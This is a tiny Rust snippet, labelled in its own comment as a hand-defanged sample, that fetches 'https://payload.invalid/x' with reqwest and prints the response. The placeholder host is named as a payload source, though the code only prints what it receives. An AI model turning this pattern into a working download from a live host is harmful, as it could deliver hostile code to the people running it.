// Defanged sample: nothing here is reached or run; defanged by hand.
fn main() {
    let body = reqwest::blocking::get("https://payload.invalid/x").unwrap();
    println!("{}", body.text().unwrap());
}
